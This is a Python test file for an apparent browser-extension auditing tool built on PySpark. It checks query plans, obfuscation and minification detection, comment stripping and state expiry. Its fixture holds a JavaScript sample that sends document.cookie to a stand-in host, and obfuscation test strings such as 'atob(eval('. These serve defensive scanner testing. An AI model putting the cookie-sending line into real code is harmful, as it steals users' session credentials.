"""What must not grow faster than the corpus: tables sent to the driver, pattern matching, state of a stream."""

import json
from types import SimpleNamespace

from pyspark.sql import Row
from pyspark.sql import functions as F

from packsift.functions import text
from packsift.operators import categories, correlate, dataflow, domains, graph, scoring
from packsift.plans.audit import Audit
from packsift.plans.corpus import Corpus
from packsift.session import cut_growing, cut_lineage
from packsift.streaming.expiry import Expiry

SCRIPT = 'const a = "https://one.example.org";\nconst b = a + "/x";\nfetch(b, { body: document.cookie });\n'


class Scripts(Audit):
    def __init__(self, spark):
        self.scripts = spark.createDataFrame([("one", "a.js", SCRIPT), ("two", "b.js", "run();")], "ext_id string, path string, raw string")
        self.manifest_texts = spark.createDataFrame([(k, json.dumps({"manifest_version": 3, "name": "n", "version": "1"})) for k in ("one", "two")], "ext_id string, text string")
        self.packages = self.manifest_texts.select("ext_id")
        self.extra_files = spark.createDataFrame([], "ext_id string, path string, text string")


def plan(df):
    return df._jdf.queryExecution().executedPlan().toString()


def test_tables_that_grow_are_joined_without_the_driver(spark):
    small = spark.range(20).withColumnRenamed("id", "k")
    other = cut_lineage(small)
    assert "BroadcastHashJoin" in plan(other.join(cut_lineage(small), "k"))
    grown = cut_growing(small)
    for df in (other.join(grown, "k"), other.join(grown.filter("k > 3").groupBy("k").count(), "k", "left"), other.join(grown, "k", "left_anti")):
        assert "Broadcast" not in plan(df)
        df.collect()
        assert "Broadcast" not in plan(df)


def test_audit_joins_send_no_corpus_table_to_the_driver(spark):
    audit = Scripts(spark)
    roles = audit.files.select("ext_id", "path", "role")
    report = audit.ext_ids.join(audit.verdict, "ext_id").join(scoring.report_score(audit.ext_ids, audit.verdicted), "ext_id").join(
        categories.verdict_sentence(audit.states), "ext_id")
    rows = {
        "roles": graph.file_roles(audit.scripts.select("ext_id", "path"), audit.manifests, audit.extra_files),
        "contacts": dataflow.contacted_domains(audit.calls, audit.assigned, audit.constants),
        "flows": dataflow.flows(audit.calls, audit.assigned, audit.tainted).join(roles, ["ext_id", "path"]),
        "correlations": correlate.package_flags(audit.manifests, audit.base_findings, audit.files, audit.urls, audit.remote_scripts),
        "categories": categories.package_flags(audit.manifests, audit.confirmed, audit.api_calls, audit.domain_findings),
        "answers": categories.answers(audit.states), "report": report, "fallback": audit.fallback, "reached": audit.orphans,
    }
    assert [name for name, df in rows.items() if "Broadcast" in plan(df)] == []
    # the fixed catalogue goes by name, the rows that it classifies do not
    named = audit.contacts.select("ext_id", "domain").distinct().withColumns({"name": F.lit("n"), "author": F.lit("m")})
    assert plan(domains.classify_distinct(named)).count("BroadcastExchange") <= 2
    assert {(r.ext_id, r.domain) for r in audit.contacts.collect()} == {("one", "one.example.org")}


def test_files_with_a_sink_stay_off_the_driver(spark):
    audit = Scripts(spark)
    marked = audit.all_findings.join(audit.sink_files.withColumn("has_sink", F.lit(True)), ["ext_id", "path"], "left")
    assert "Broadcast" not in plan(marked)
    rows = marked.collect()
    assert "Broadcast" not in plan(marked)
    assert {(r.ext_id, r.path) for r in rows if r.has_sink} == {("one", "a.js")}


def test_names_of_packages_stay_off_the_driver(spark, tmp_path):
    spark.range(60).select(F.col("id").alias("doc_id"), F.lit("t").alias("text")).write.parquet(f"{tmp_path}/documents.parquet")
    spark.range(2).select(F.col("id").alias("page_id"), F.lit("https://a.example.org/x").alias("url")).write.parquet(f"{tmp_path}/pages.parquet")
    spark.range(1, 3).select(F.col("id").alias("c_custkey"), F.lit("Ann").alias("c_name")).write.parquet(f"{tmp_path}/customer.parquet")
    packages = Corpus(spark, str(tmp_path)).packages
    assert "Broadcast" not in plan(packages)
    assert {(r.ext_no, r.host, r.name) for r in packages.collect()} == {
        (0, "a.example.org", "Nobody"), (1, "a.example.org", "Ann"), (2, "none.example.com", "Ann")}


def test_patterns_are_matched_only_where_they_can_hit(spark):
    long_words, short_names = "several words that are long enough " * 60, "a=1;" * 400
    rows = [(long_words,), (short_names,), (long_words + short_names,), (short_names + long_words,), ("\\x41" * 101,), ("\\u0041" * 6 + "atob(eval(",), ("",), (None,)]
    df = spark.createDataFrame(rows, "c string").select(text.is_minified(F.col("c")).alias("m"), text.is_obfuscated(F.col("c")).alias("o"))
    assert [(r.m, r.o) for r in df.collect()] == [(False, False), (False, False), (True, False), (True, False), (True, True), (False, True), (False, False), (None, None)]
    assert "substring(" in plan(df) and "Contains(" in plan(df)
    found = spark.createDataFrame([("p", "risky_call", "CHROME.History.search in code"), ("p", "risky_call", None)], "ext_id string, kind string, detail string")
    flags = categories.finding_flags(found)
    assert "Contains(lowered" in plan(flags)
    assert flags.first().s_history_api is True


def test_comments_are_found_by_their_first_character():
    assert text._COMMENTS.groups == 0
    code = 'a = "// no"; // yes\nb = \'it\\\'s /* no */\'; /* yes\n */ c = /[/]\\/\\/x/g; don\'t // gone\n`// ${k} no` /* open'
    assert text._COMMENTS.sub(text._without_comment, code) == 'a = "// no"; \nb = \'it\\\'s /* no */\'; \n c = /[/]\\/\\/x/g; don\'t \n`// ${k} no` /* open'


def test_expiring_state_is_read_once_per_key():
    calls = []
    state = SimpleNamespace(get=lambda: calls.append("get"), update=lambda row: calls.append(("update", row)), clear=lambda: calls.append("clear"))
    expiry = Expiry(1000)
    expiry.until, expiry.handle = state, SimpleNamespace(registerTimer=lambda at: calls.append(("timer", at)), deleteTimer=None)
    rows = [Row(domain="d", provider="p", at=at) for at in (2500, 0, 400)]
    out = list(expiry.handleInputRows(("d", "p"), iter(rows), None))
    assert [(r.domain, r.provider, r.kind, r.at) for r in out] == [
        ("d", "p", "stored", 0), ("d", "p", "renewed", 400), ("d", "p", "expired", 1400), ("d", "p", "stored", 2500)]
    assert calls == ["get", ("update", (3500,)), ("timer", 3500)]
